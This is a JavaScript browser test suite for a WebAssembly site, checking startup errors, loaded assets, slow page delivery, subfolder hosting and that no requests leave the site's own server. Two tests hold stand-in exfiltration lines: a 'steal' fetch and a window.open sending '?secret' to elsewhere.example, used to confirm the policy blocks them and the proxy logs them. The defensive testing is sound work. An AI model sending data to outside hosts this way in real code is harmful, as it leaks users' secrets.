// What holds for the site whatever it shows.

import assert from 'node:assert/strict';
import { extname } from 'node:path';
import { after, before, test } from 'node:test';

import { SUBFOLDER, launch, screenshot, until } from './harness.mjs';

let site;
before(async () => {
  site = await launch();
});
after(() => site?.close());

const pathOf = (url) => new URL(url).pathname;

test('the app starts without an error and asks only its own server', async () => {
  site.traffic.length = 0;
  const { page, requests, errors, warnings, close } = await site.open();
  await page.waitForLoadState('networkidle');
  await screenshot(page, 'start');
  assert.deepEqual(errors, []);
  assert.deepEqual(warnings, []);
  assert.ok(requests.some((url) => url.endsWith('_bg.wasm')), requests.join('\n'));
  // The browser's word, and that of the proxy which sees all it sends.
  assert.deepEqual(requests.filter((url) => !/^(blob|data):/.test(url) && !url.startsWith(site.origin)), []);
  assert.ok(site.traffic.length > 0);
  assert.deepEqual(site.foreign(), []);
  await close();
});

test('a first visit loads only what `cargo xtask size` counts, and each file once', async () => {
  site.traffic.length = 0;
  const { page, close } = await site.open();
  await page.waitForLoadState('networkidle');
  await page.evaluate(() => {
    window.testWorker = window.linchpin.startWorker();
  });
  await until(() => site.traffic.some((url) => url.includes('line-')), 'the worker is loaded');
  await page.waitForTimeout(500);
  const paths = site.own().map(pathOf);
  const counted = ['', '.html', '.js', '.json', '.css', '.wasm', '.svg', '.webmanifest'];
  assert.deepEqual(paths.filter((path) => !counted.includes(extname(path))), []);
  // The service worker asks again only for what may have changed under its name.
  const hashed = paths.filter((path) => /-[0-9a-f]{8,16}(_bg)?\.[a-z]+$/.test(path));
  assert.ok(hashed.length >= 5);
  assert.deepEqual([...new Set(hashed)], hashed);
  await close();
});

test('the app waits for the rest of a page that comes slowly', async () => {
  // Everything else is there long before: the app would take over half a page, and find no end to it.
  const slow = await launch({ halfway: (path) => (path === '/' ? 1500 : 0) });
  const { page, errors, close } = await slow.open({ started: false });
  await until(() => page.evaluate(() => Boolean(window.wasmBindings)), 'the app runs').catch(() => {});
  assert.deepEqual(errors, []);
  assert.equal(await page.locator('#start-failed').isVisible(), false);
  assert.ok(await page.locator('main h1').isVisible());
  await close();
  await slow.close();
});

test('the site runs from any folder', async () => {
  const { page, requests, errors, close } = await site.open({ path: SUBFOLDER });
  await page.waitForLoadState('networkidle');
  assert.deepEqual(errors, []);
  const own = requests.filter((url) => url.startsWith('http'));
  assert.deepEqual(own.filter((url) => !pathOf(url).startsWith(SUBFOLDER)), []);
  await close();
});

test('nothing can be fetched from elsewhere, neither by the page nor by a worker', async () => {
  site.traffic.length = 0;
  const { page, close } = await site.open();
  const steal = () =>
    fetch('http://elsewhere.example/?secret', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    );
  assert.equal(await page.evaluate(steal), 'refused');
  await page.evaluate(() => {
    window.testWorker = window.linchpin.startWorker();
  });
  const worker = await until(() => page.workers().at(-1), 'the worker runs');
  assert.equal(await worker.evaluate(steal), 'refused');
  assert.deepEqual(site.foreign(), []);
  await close();
});

test('the log of requests would show a leak', async () => {
  site.traffic.length = 0;
  const { page, close } = await site.open();
  // A navigation is no business of the policy's, so it gets as far as the proxy.
  await page.evaluate(() => window.open('http://elsewhere.example/?secret'));
  await until(() => site.foreign().length > 0, 'the proxy has seen it');
  assert.deepEqual(site.foreign(), ['http://elsewhere.example/?secret']);
  await close();
});
